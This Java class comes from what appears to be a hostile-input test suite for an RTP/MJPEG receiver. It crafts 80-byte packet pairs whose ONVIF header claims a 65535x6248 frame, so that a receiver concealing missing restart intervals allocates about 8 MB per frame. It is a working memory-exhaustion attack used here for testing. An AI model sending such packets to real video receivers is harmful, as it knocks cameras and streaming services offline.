package dev.mjpegrtp.testing.hostile;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;

/**
 * Frames that claim a huge size and send almost nothing of it (issue 17, finding 1): per frame, a 52-byte first packet
 * whose ONVIF JPEG header extension claims {@value #WIDTH}x{@value #HEIGHT} pixels, restart markers on, 12 bytes of
 * scan data; then, after a gap in fragment offsets, a 28-byte last packet with the marker bit. A receiver that
 * conceals the missing restart intervals with gray ones builds a frame of about 8 MB (just under the consumer's
 * default maxFrameSize) from these 80 bytes. {@value #PAIRS_PER_SECOND} pairs a second, 3.4 KB/s.
 */
public final class OnvifSizeBomb extends PacedRtpAttack {

    /** The widest a SOF can say; the height is chosen so that the gray frame stays just under 8 MiB. */
    static final int WIDTH = 65535;
    static final int HEIGHT = 6248;
    static final int PAIRS_PER_SECOND = 25;
    /** One restart interval: as many MCUs as the header allows, so that the whole frame is few intervals. */
    private static final int RESTART_INTERVAL = 65535;

    /**
     * @param source a loopback address of the attacker's own (127.0.0.x)
     * @param target the rtp-mjpeg consumer's address
     * @param ssrc   the SSRC the bomb claims (the attacker's own, when it is the stream's first sender)
     */
    public OnvifSizeBomb(InetAddress source, InetSocketAddress target, int ssrc) {
        super("onvif-size-bomb", source, target, ssrc, PAIRS_PER_SECOND, 0, 0);
    }

    @Override
    protected byte[][] frame(int timestamp) {
        return new byte[][] {firstPacket(nextSequence(), timestamp), lastPacket(nextSequence(), timestamp)};
    }

    private byte[] firstPacket(int sequence, int timestamp) {
        ByteBuffer packet = ByteBuffer.allocate(52);
        HostileRtp.rtpHeader(packet, true, false, sequence, timestamp, ssrc);
        HostileRtp.onvifSizeExtension(packet, WIDTH, HEIGHT);
        HostileRtp.mainHeader(packet, 0, HostileRtp.TYPE_0_WITH_RESTARTS, 50, 0, 0);
        HostileRtp.restartHeader(packet, RESTART_INTERVAL, true, false, 0);
        packet.put(new byte[packet.remaining()]); // 12 bytes of scan data
        return HostileRtp.bytes(packet);
    }

    /** Far past what the first packet carried, not the start of a chunk, marker set: "the rest was lost". */
    private byte[] lastPacket(int sequence, int timestamp) {
        ByteBuffer packet = ByteBuffer.allocate(28);
        HostileRtp.rtpHeader(packet, false, true, sequence, timestamp, ssrc);
        HostileRtp.mainHeader(packet, 1_000_000, HostileRtp.TYPE_0_WITH_RESTARTS, 50, 0, 0);
        HostileRtp.restartHeader(packet, RESTART_INTERVAL, false, true, 40);
        packet.put(new byte[packet.remaining()]);
        return HostileRtp.bytes(packet);
    }

    @Override
    public String summary() {
        return framesSent() + " pairs of 52 + 28 bytes claiming " + WIDTH + "x" + HEIGHT + " from " + source.getHostAddress()
                + " to " + target;
    }
}
